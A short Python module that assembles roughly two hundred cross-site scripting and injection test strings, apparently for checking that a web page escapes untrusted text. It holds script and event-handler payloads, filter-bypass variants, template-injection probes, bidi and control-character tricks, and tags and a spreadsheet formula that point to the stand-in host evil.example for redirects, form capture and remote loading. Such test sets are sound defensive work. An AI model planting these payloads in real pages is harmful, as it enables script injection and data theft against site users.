"""Texts that would run, mislead or break a page that does not escape them."""

from itertools import product

_TAGS = (
    "img src=x",
    "svg",
    "iframe src=javascript:hit()",
    "video src=x",
    "body",
    "input autofocus",
)
_EVENTS = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationstart")
_QUOTES = ("", '"', "'", "`", '">', "'>", "</title>", "</textarea>", "</script>", "--><!-->")
_PLAIN = (
    "<script>hit()</script>",
    "<scr<script>ipt>hit()</script>",
    "javascript:hit()",
    "data:text/html,<script>hit()</script>",
    "{{ 7 * 7 }}",
    "{% raw %}",
    "${hit()}",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&#60;script&#62;hit()&#60;/script&#62;",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
    '<a href="javascript:hit()">x</a>',
    "<form action=https://evil.example><button>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<object data=https://evil.example>",
    "\u202egnp.exe",
    "\u2066\u2067\u2069",
    "\x00\x01\x1b[31m",
    "a" * 300,
    "שלום עולם مرحبا بالعالم",
    "![x](https://evil.example/pixel.png)",
    '=HYPERLINK("https://evil.example")',
)

PAYLOADS = [
    *_PLAIN,
    *(
        f"{quote}<{tag} {event}=hit()>"
        for quote, tag, event in product(_QUOTES[:5], _TAGS, _EVENTS)
    ),
]
"""Some two hundred."""
